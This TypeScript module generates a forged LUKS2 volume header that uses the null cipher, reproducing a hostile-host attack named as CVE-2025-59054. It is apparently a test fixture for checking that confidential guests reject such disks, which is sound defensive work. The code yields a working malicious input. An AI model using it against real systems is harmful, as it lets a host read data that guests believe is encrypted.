import { createHash, pbkdf2Sync } from "node:crypto";

const HEADER_SIZE = 16384;
const BINARY_SIZE = 4096;
const KEY_BYTES = 32;
const STRIPES = 4000;
const AREA_OFFSET = 2 * HEADER_SIZE;
const AREA_SIZE = 131072;
/** Offset of the data of the volume. */
const SEGMENT_OFFSET = 16 * 1024 * 1024;
const SALT = Buffer.alloc(32, 0x5a);
const ITERATIONS = 1000;
const CIPHER = "cipher_null-ecb";

/**
 * The start of a LUKS2 volume as a hostile host forges it (CVE-2025-59054; LUKS2 On-Disk Format 1.1.1, sections 2 and 3). Every field is
 * valid, and the keyslot and the data have the null cipher. A guest that reads its parameters from the disk opens the volume with any
 * passphrase and then writes plaintext.
 */
export function foreignLuks2(): Buffer {
  const area = Buffer.alloc(AREA_SIZE); // with the null cipher, these zeros are the anti-forensic material
  const json = JSON.stringify(metadata(mergedKey()));
  return Buffer.concat([header(json, 0), header(json, HEADER_SIZE), area]);
}

function metadata(key: Buffer): unknown {
  const kdf = { type: "pbkdf2", hash: "sha256", iterations: ITERATIONS, salt: SALT.toString("base64") };
  const area = { type: "raw", offset: String(AREA_OFFSET), size: String(AREA_SIZE), encryption: CIPHER, key_size: KEY_BYTES };
  return {
    keyslots: { 0: { type: "luks2", key_size: KEY_BYTES, af: { type: "luks1", stripes: STRIPES, hash: "sha256" }, area, kdf } },
    tokens: {},
    segments: {
      0: { type: "crypt", offset: String(SEGMENT_OFFSET), size: "dynamic", iv_tweak: "0", encryption: CIPHER, sector_size: 512 },
    },
    digests: {
      0: { ...kdf, keyslots: ["0"], segments: ["0"], digest: pbkdf2Sync(key, SALT, ITERATIONS, KEY_BYTES, "sha256").toString("base64") },
    },
    config: { json_size: String(HEADER_SIZE - BINARY_SIZE), keyslots_size: String(SEGMENT_OFFSET - AREA_OFFSET) },
  };
}

/** The binary header and the JSON area. The checksum covers both, with zeros in its own field (section 2.3). */
function header(json: string, offset: number): Buffer {
  const bytes = Buffer.alloc(HEADER_SIZE);
  bytes.write(offset === 0 ? "LUKS\xba\xbe" : "SKUL\xba\xbe", 0, "latin1");
  bytes.writeUInt16BE(2, 6);
  bytes.writeBigUInt64BE(BigInt(HEADER_SIZE), 8);
  bytes.writeBigUInt64BE(1n, 16); // sequence id
  bytes.write("sha256", 72, "latin1");
  SALT.copy(bytes, 104);
  bytes.write("5a5a5a5a-5a5a-4a5a-8a5a-5a5a5a5a5a5a", 168, "latin1");
  bytes.writeBigUInt64BE(BigInt(offset), 256);
  bytes.write(json, BINARY_SIZE, "utf8");
  createHash("sha256").update(bytes).digest().copy(bytes, 448);
  return bytes;
}

/** The volume key that the anti-forensic merge (LUKS1 On-Disk Format, section 2.4) computes from an area of zeros. */
function mergedKey(): Buffer {
  let state: Buffer = Buffer.alloc(KEY_BYTES);
  const index = Buffer.alloc(4); // the key has one block of the hash, and its number is 0
  for (let stripe = 0; stripe < STRIPES - 1; stripe += 1) state = createHash("sha256").update(index).update(state).digest();
  return state;
}
